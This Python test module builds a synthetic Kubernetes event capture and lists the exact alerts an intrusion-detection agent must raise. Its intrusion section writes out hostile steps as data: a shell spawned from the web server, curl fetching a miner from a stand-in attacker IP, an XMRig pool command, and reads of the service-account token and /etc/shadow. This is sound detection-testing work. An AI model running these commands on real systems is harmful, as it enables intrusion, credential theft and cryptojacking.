"""The end-to-end scenario: a small deterministic capture and the alerts it must produce.

    python -m tests.e2e.scenario [-o tests/data/e2e/shop-small.capture.jsonl]

The capture reuses the IG v0.55 record layout of `examples/make_webshop_capture.py` (its `Gen`
emits exactly what `ig run -o json` prints, and the decoder tests keep that honest), on one node,
`node-a`, namespace `shop`, every container started at T0:

* Deployment `web` (ReplicaSet `web-5d4f8c7b9`): container `app` seen only by trace_exec,
  container `nginx` only by trace_open;
* StatefulSet `db` (pod `db-0`): container `db` only by trace_tcp;
* Deployment `api` (ReplicaSet `api-7c9d6b5f4`): container `worker` only by trace_dns,
  container `proxy` only by trace_capabilities;
* one advise_seccomp array, the capture's last line, for `web/app`, with no syscall (see
  `SECCOMP_SYSCALLS`).

Why one gadget per container: a profile finishes when an event of *its* container passes the
learning period (event time). With each container fed by a single stream, whatever order the
streams interleave in (ordered or not), every container's learning events are merged before its
first post-learning event, so the expected alerts are exact. The learning period is 1 minute;
learning traffic runs 0-50 s, normal traffic continues at 2 min (no alert: it is in the
profiles), the intrusion runs at 3-4 min, normal traffic again at 4-5 min (the SIGTERM test
stops the agent in it). Repeats of intrusion events test deduplication (no second alert).
"""

from __future__ import annotations

import argparse
import importlib.util
import json
import sys
from collections import Counter
from dataclasses import dataclass
from pathlib import Path
from types import ModuleType
from typing import Any

REPO = Path(__file__).resolve().parents[2]
CAPTURE = REPO / "tests" / "data" / "e2e" / "shop-small.capture.jsonl"
EXAMPLE_CAPTURE = REPO / "examples" / "webshop-intrusion.capture.jsonl"
NODE = "node-a"
NAMESPACE = "shop"
LEARNING_PERIOD = "1m"


def _example() -> ModuleType:
    """`examples/` is not a package: load the example generator by path for its `Gen`."""
    spec = importlib.util.spec_from_file_location(
        "gadgetwatch_example_capture", REPO / "examples" / "make_webshop_capture.py"
    )
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # dataclasses look their module up while decorating
    spec.loader.exec_module(module)
    return module


ex = _example()
T0: int = ex.T0
SEC: int = ex.SEC
MIN: int = ex.MIN

WEB_POD = "web-5d4f8c7b9-x7k2p"
API_POD = "api-7c9d6b5f4-m2n8q"
DB_POD = "db-0"
WEB_IP, API_IP, DB_IP = "10.244.1.11", "10.244.1.12", "10.244.1.20"
BACKUP = "10.0.0.5"
POOL = "141.94.96.144"
EVIL = "203.0.113.50"
WEB_LABELS = "app=web,pod-template-hash=5d4f8c7b9"
API_LABELS = "app=api,pod-template-hash=7c9d6b5f4"
DB_LABELS = "app=db,apps.kubernetes.io/pod-index=0,controller-revision-hash=db-6b8f9c4d7"


def _digest(n: int) -> str:
    return "sha256:" + f"{n:02x}" * 32


def _ctr(pod: str, name: str, image: str, n: int, *, owner: tuple[str, str], labels: str,
         ip: str, uid: int) -> Any:  # fmt: skip
    return ex.Ctr(
        NODE, pod, name, image, _digest(n), owner[0], owner[1], labels,
        f"{0xE2E000 + n:06x}" * 10 + "beef", 30000 + 100 * n, 4026533000 + n,
        4026533500 + n // 2, ip, uid,
    )  # fmt: skip


WEB_RS = ("ReplicaSet", "web-5d4f8c7b9")
API_RS = ("ReplicaSet", "api-7c9d6b5f4")
APP = _ctr(WEB_POD, "app", "ghcr.io/example/web-app:1.4.0", 1, owner=WEB_RS, labels=WEB_LABELS,
           ip=WEB_IP, uid=1000)  # fmt: skip
NGINX = _ctr(WEB_POD, "nginx", "nginx:1.27", 2, owner=WEB_RS, labels=WEB_LABELS, ip=WEB_IP,
             uid=101)  # fmt: skip
DB = _ctr(DB_POD, "db", "postgres:16.4", 3, owner=("StatefulSet", "db"), labels=DB_LABELS,
          ip=DB_IP, uid=999)  # fmt: skip
WORKER = _ctr(API_POD, "worker", "ghcr.io/example/api:3.1.0", 4, owner=API_RS, labels=API_LABELS,
              ip=API_IP, uid=1000)  # fmt: skip
PROXY = _ctr(API_POD, "proxy", "envoyproxy/envoy:v1.31.2", 5, owner=API_RS, labels=API_LABELS,
             ip=API_IP, uid=0)  # fmt: skip

#: Syscalls of the one advise_seccomp window: none. Its timestamp is the client's event clock
#: when the flush arrives, which depends on how far the *other* streams were read (not on the
#: capture), so any syscall in it would make R0003 depend on cross-stream timing. The window
#: is there to keep a `--hold-flush` run open like a live gadget.
SECCOMP_SYSCALLS: tuple[int, ...] = ()
MINER = ["/dev/shm/xmrig", "-o", "pool.minexmr.com:3333", "--donate-level=1"]


def _normal(g: Any, start: int, end: int) -> None:
    """Behaviour every container also shows while learning: never an alert once learned."""
    t, k = start, 0
    while t < end:
        g.exec_(APP, t, exe="/usr/bin/date", args=["date", "+%s"], pid=40 + k, pcomm="gunicorn",
                ppid=1, cwd="/app", parent_exe="/usr/local/bin/python3.12")  # fmt: skip
        g.open_(NGINX, t + 100_000, comm="nginx", pid=29, path="/usr/share/nginx/html/index.html",
                pcomm="nginx", ppid=1)  # fmt: skip
        port = 41000 + k
        g.tcp(DB, t + 200_000, comm="postgres", pid=1, kind="accept",
              src=g.endpoint(DB_IP, 5432), dst=g.endpoint(WEB_IP, port))  # fmt: skip
        g.tcp(DB, t + 300_000, comm="postgres", pid=61, kind="connect",
              src=g.endpoint(DB_IP, 50000 + k), dst=g.endpoint(BACKUP, 443))  # fmt: skip
        g.dns(WORKER, t + 400_000, comm="python3", pid=7, name="api.stripe.com.",
              answers=["54.187.216.72"])  # fmt: skip
        g.cap(PROXY, t + 500_000, comm="envoy", pid=1, cap="CAP_NET_BIND_SERVICE",
              syscall="SYS_BIND")  # fmt: skip
        t += 10 * SEC
        k += 1


def _learning_startup(g: Any) -> None:
    g.exec_(APP, T0 + SEC, exe="/usr/local/bin/gunicorn", args=["gunicorn", "web:app", "-b",
            "127.0.0.1:8000"], pid=1, pcomm="containerd-shim", ppid=APP.pid - 20, cwd="/app",
            parent_exe="/usr/bin/containerd-shim-runc-v2")  # fmt: skip
    g.open_(NGINX, T0 + SEC, comm="nginx", pid=1, path="/etc/nginx/nginx.conf")
    g.open_(NGINX, T0 + SEC + 1_000_000, comm="nginx", pid=1, path="/var/log/nginx/access.log",
            flags="O_WRONLY|O_CREAT|O_APPEND", flags_raw=0o2101, fd=5)  # fmt: skip


def _intrusion(g: Any) -> None:
    t = T0 + 3 * MIN
    shell = {"pcomm": "gunicorn", "ppid": 7, "cwd": "/app", "tty": True,
             "parent_exe": "/usr/local/bin/python3.12"}  # fmt: skip
    g.exec_(APP, t, exe="/bin/sh", args=["/bin/sh"], pid=4242, **shell)
    sub = {"pcomm": "sh", "ppid": 4242, "cwd": "/app", "tty": True, "parent_exe": "/bin/dash"}
    g.exec_(APP, t + 5 * SEC, exe="/usr/bin/curl",
            args=["curl", "-s", "-o", "/dev/shm/xmrig", f"http://{EVIL}/x"], pid=4250,
            **sub)  # fmt: skip
    g.exec_(APP, t + 10 * SEC, exe="/dev/shm/xmrig", args=MINER, pid=4260, upper=True, **sub)
    # The same shell again: deduplicated (cooldown), no second alert.
    g.exec_(APP, t + 30 * SEC, exe="/bin/sh", args=["/bin/sh"], pid=4243, **shell)

    token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    g.open_(NGINX, t + 20 * SEC, comm="cat", pid=600, path=token, pcomm="sh", ppid=599)
    g.open_(NGINX, t + 25 * SEC, comm="cat", pid=601, path="/etc/shadow", error="EACCES",
            pcomm="sh", ppid=599)  # fmt: skip

    for k in range(3):  # the miner reconnecting: one alert per rule, repeats deduplicated
        g.tcp(DB, t + (40 + 5 * k) * SEC, comm="xmrig", pid=700, kind="connect",
              src=g.endpoint(DB_IP, 45000 + k), dst=g.endpoint(POOL, 3333),
              pcomm="sh", ppid=699)  # fmt: skip

    g.dns(WORKER, t + 55 * SEC, comm="python3", pid=7, name="updates.example.org.",
          answers=["198.51.100.7"])  # fmt: skip
    g.dns(WORKER, t + 58 * SEC, comm="python3", pid=7, name="pool.minexmr.com.", answers=[POOL])
    g.cap(PROXY, t + 59 * SEC, comm="envoy", pid=31, cap="CAP_SETUID", syscall="SYS_SETUID")


def _seccomp(g: Any, ts: int) -> None:
    element = {
        "k8s": g.k8s(APP),
        "mntns_id_raw": APP.mntns,
        "runtime": g.runtime(APP),
        "syscalls": [1 if i in SECCOMP_SYSCALLS else 0 for i in range(501)],
    }
    g.emit(ts, "advise_seccomp", "syscalls", NODE, [element])


def generate() -> list[dict[str, Any]]:
    g = ex.Gen()
    _learning_startup(g)
    _normal(g, T0 + 10 * SEC, T0 + 51 * SEC)  # learning traffic
    _normal(g, T0 + 2 * MIN, T0 + 2 * MIN + SEC)  # after learning: known behaviour
    _intrusion(g)
    _normal(g, T0 + 4 * MIN + 10 * SEC, T0 + 5 * MIN)  # normal traffic resumes
    _seccomp(g, T0 + 5 * MIN + SEC)
    return [line for _, _, line in sorted(g.lines, key=lambda x: (x[0], x[1]))]


def write(path: Path) -> None:
    header = {
        "gadgetwatchCapture": 1,
        "generator": "tests/e2e/scenario.py",
        "serverVersion": "0.55.1",
        "startedAt": ex._fmt(T0),
        "description": "end-to-end scenario: one gadget per container, intrusion at 3 min",
    }
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8") as out:
        out.write(json.dumps(header, separators=(",", ":")) + "\n")
        for line in generate():
            out.write(json.dumps(line, separators=(",", ":"), ensure_ascii=False) + "\n")


# -- what the agent must make of it -------------------------------------------------------------


@dataclass(frozen=True, order=True)
class Expected:
    """One alert, by the fields that identify it."""

    rule_id: str
    workload_kind: str
    workload_name: str
    pod: str
    container: str
    key: str


#: Top-level owners (what owner resolution must yield), by pod.
OWNERS = {
    WEB_POD: ("Deployment", "web"),
    API_POD: ("Deployment", "api"),
    DB_POD: ("StatefulSet", "db"),
}


def _e(rule: str, ctr: Any, key: str) -> Expected:
    kind, name = OWNERS[ctr.pod]
    return Expected(rule, kind, name, ctr.pod, ctr.name, key)


EXPECTED: tuple[Expected, ...] = (
    _e("R0001", APP, "/bin/sh"),
    _e("R0001", APP, "/usr/bin/curl"),
    _e("R0001", APP, "/dev/shm/xmrig"),
    _e("R1000", APP, "/dev/shm/xmrig"),
    _e("R1001", APP, "/dev/shm/xmrig"),
    _e("R0006", NGINX, "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    _e("R0002", NGINX, "/etc/shadow"),
    _e("R0010", NGINX, "/etc/shadow"),
    _e("R0011", DB, f"{POOL}:3333"),
    _e("R1009", DB, f"{POOL}:3333"),
    _e("R0005", WORKER, "updates.example.org"),
    _e("R0005", WORKER, "pool.minexmr.com"),
    _e("R1008", WORKER, "pool.minexmr.com"),
    _e("R0004", PROXY, "CAP_SETUID"),
)

#: The RuntimeAlertException the Kubernetes test creates silences exactly this one.
SILENCED_BY_EXCEPTION = _e("R0005", WORKER, "updates.example.org")

#: What each profile learned (a sample per section, checked in the stores).
LEARNED_EXECS = {"/usr/local/bin/gunicorn", "/usr/bin/date"}
LEARNED_OPENS = {
    "/etc/nginx/nginx.conf",
    "/var/log/nginx/access.log",
    "/usr/share/nginx/html/index.html",
}
PROFILE_NAMES = {
    "deployment-web-app",
    "deployment-web-nginx",
    "statefulset-db-db",
    "deployment-api-worker",
    "deployment-api-proxy",
}


def alert_key(alert: dict[str, Any]) -> str:
    """The salient value of an alert's event (what `Expected.key` holds)."""
    ev = alert["event"]
    kind = ev.get("type")
    if kind in ("exec", "open"):
        return str(ev["path"])
    if kind == "tcp":
        return f"{ev['dstAddr']}:{ev['dstPort']}"
    if kind == "dns":
        return str(ev["name"]).rstrip(".")
    if kind == "capability":
        return str(ev["capability"])
    if kind == "syscalls":
        return ",".join(ev["newSyscalls"])
    return json.dumps(ev, sort_keys=True)


def expected_of(alert: dict[str, Any]) -> Expected:
    k = alert["kubernetes"]
    return Expected(
        alert["rule"]["id"],
        k["workloadKind"],
        k["workloadName"],
        k["pod"],
        k["container"],
        alert_key(alert),
    )


def capture_counts(path: Path) -> tuple[Counter[str], Counter[str]]:
    """Payloads (received) and records (decoded) per gadget that IG sends an agent running with
    its default params: everything in the capture, except repeated capabilities, since the agent
    runs trace_capabilities with `unique=true` (one event per container and capability)."""
    received: Counter[str] = Counter()
    decoded: Counter[str] = Counter()
    seen_caps: set[tuple[Any, Any]] = set()
    for raw in path.read_text(encoding="utf-8").splitlines():
        line = json.loads(raw)
        if "gadget" not in line:
            continue
        if line["gadget"] == "trace_capabilities":
            cap = (line["data"]["proc"]["mntns_id"], line["data"]["cap"])
            if cap in seen_caps:
                continue
            seen_caps.add(cap)
        received[line["gadget"]] += 1
        data = line["data"]
        decoded[line["gadget"]] += len(data) if isinstance(data, list) else 1
    return received, decoded


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("-o", "--output", type=Path, default=CAPTURE)
    write(parser.parse_args().output)


if __name__ == "__main__":
    main()
